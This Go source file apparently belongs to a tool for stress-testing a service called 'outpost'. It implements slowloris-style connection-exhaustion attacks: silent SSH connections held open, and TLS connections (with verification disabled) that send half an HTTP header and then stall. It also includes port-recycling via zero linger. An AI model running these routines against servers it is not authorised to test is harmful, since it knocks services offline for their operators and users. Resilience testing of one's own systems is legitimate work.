package main

import (
	"context"
	"crypto/tls"
	"net"
	"strings"
)

// attackSilent opens SSH connections and says nothing.
func attackSilent(ctx context.Context, args []string) error {
	a, err := parseAttack(ctx, args)
	if err != nil {
		return err
	}
	return a.keep(ctx, func(ctx context.Context, i int, opened func()) error {
		conn, err := a.dial(ctx, i, a.ssh)
		if err != nil {
			return err
		}
		defer conn.Close()
		opened()
		return drain(conn)
	})
}

// attackHalf opens TLS connections to the API and sends half of a header.
func attackHalf(ctx context.Context, args []string) error {
	a, err := parseAttack(ctx, args)
	if err != nil {
		return err
	}
	half := []byte("POST /services HTTP/1.1\r\nHost: outpost\r\nX-Half: " + strings.Repeat("x", 6<<10))
	config := &tls.Config{InsecureSkipVerify: true, CurvePreferences: []tls.CurveID{tls.X25519}}
	return a.keep(ctx, func(ctx context.Context, i int, opened func()) error {
		conn, err := a.dial(ctx, i, a.api)
		if err != nil {
			return err
		}
		defer conn.Close()
		secure := tls.Client(conn, config)
		if err := secure.HandshakeContext(ctx); err != nil {
			return err
		}
		if _, err := secure.Write(half); err != nil {
			return err
		}
		opened()
		return drain(conn)
	})
}

// dial opens the i-th connection. Closing resets it, so that its port is free again at once.
func (a *attack) dial(ctx context.Context, i int, address string) (net.Conn, error) {
	conn, err := dialFrom(ctx, sourceOf(i, a.oneSource), address)
	if err != nil {
		return nil, err
	}
	return conn, conn.(*net.TCPConn).SetLinger(0)
}

// drain reads until the other end closes.
func drain(conn net.Conn) error {
	var waste [256]byte
	for {
		if _, err := conn.Read(waste[:]); err != nil {
			return err
		}
	}
}
